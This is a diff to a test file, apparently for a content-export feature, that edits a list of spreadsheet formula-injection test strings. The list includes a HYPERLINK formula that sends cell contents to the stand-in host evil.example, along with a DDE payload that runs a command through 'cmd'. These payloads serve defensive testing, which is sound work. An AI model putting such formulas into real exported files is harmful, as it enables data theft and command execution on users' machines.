@@ -23,7 +23,7 @@ from tests.home.editorial_helpers import add_draft, edit_post, workflow_action
 from tests.utils import publish
 
 FORMULAS = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")',
+    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',  # fits a unit's 50 characters
     "+1+1",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)",
